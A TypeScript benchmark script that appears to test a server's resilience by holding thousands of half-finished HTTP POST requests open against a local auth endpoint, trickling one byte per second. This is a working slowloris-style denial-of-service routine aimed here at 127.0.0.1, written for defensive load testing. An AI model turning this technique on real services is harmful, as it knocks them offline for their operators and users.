import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { underAttack } from "./lib/underAttack.ts";

/**
 * Requests that never end: half of them stop in their headers, half in their body; every second each says a byte more, and
 * whoever is sent away comes back. Run: node bench/attacks/halfOpen.ts
 */
const CONNECTIONS = 4000;
const A_ROUND = 400;
const HEAD = "POST /api/auth/local HTTP/1.1\r\nhost: localhost\r\n";
const BODY = `${HEAD}content-type: application/json\r\ncontent-length: 7000\r\n\r\n{`;
const open = new Set<Socket>();
let opened = 0;

await underAttack("requests that never end", async ({ origin }) => {
  const { port } = new URL(origin);
  for (let n = 0; n < A_ROUND && open.size < CONNECTIONS; n += 1) openOne(Number(port));
  for (const socket of open) socket.write(" ");
  await sleep(1000);
});

function openOne(port: number): void {
  opened += 1;
  const beginning = opened % 2 === 0 ? `${HEAD}x: ` : BODY;
  const socket = connect({ port, host: "127.0.0.1" });
  socket.write(beginning);
  const forget = () => void open.delete(socket);
  socket.on("close", forget).on("error", forget).resume();
  open.add(socket);
}
